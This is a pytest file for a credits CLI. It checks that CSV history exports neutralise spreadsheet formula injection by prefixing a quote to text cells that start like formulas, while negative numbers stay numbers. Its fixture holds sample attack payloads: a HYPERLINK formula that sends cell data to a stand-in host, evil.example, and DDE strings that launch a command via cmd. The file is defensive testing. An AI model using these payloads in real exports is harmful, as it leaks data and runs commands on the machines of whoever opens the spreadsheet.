"""Spreadsheet injection: CSV text cells that start like a formula get a leading quote.

`credits history --format csv` copied references and reasons as they were, so a reference
of `=HYPERLINK(...)` became a live formula in the spreadsheet that opened the export. Text
cells starting with =, +, -, @, tab or carriage return are prefixed with ' (OWASP); numbers,
negative amounts included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from creditctl.cli.output import csv_cell

FORMULAS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_history_csv_neutralises_formulas_and_keeps_numbers(cli):
    assert cli("users", "add", "alice@example.com", "--id", "u1").exit_code == 0
    for reference in FORMULAS.values():
        assert cli("credits", "deduct", "u1", "1", "--ref", reference).exit_code == 0
    granted = cli("credits", "grant", "u1", "2", "--reason", "=1+1")
    assert granted.exit_code == 0, granted.output
    result = cli("credits", "history", "u1", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = _csv_rows(result.stdout)
    usage = [row for row in rows if row["type"] == "usage"]
    assert [row["reference"] for row in usage] == ["'" + ref for ref in FORMULAS.values()]
    assert {row["amount"] for row in usage} == {"-1"}  # a negative number is not text
    assert rows[-1]["description"] == "'=1+1"
    assert rows[-1]["amount"] == "2"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("render-42", "render-42"),
        ("", ""),
        (-5, -5),
        (0, 0),
        (None, None),
    ],
)
def test_only_text_cells_that_start_like_a_formula_change(value, cell):
    assert csv_cell(value) == cell
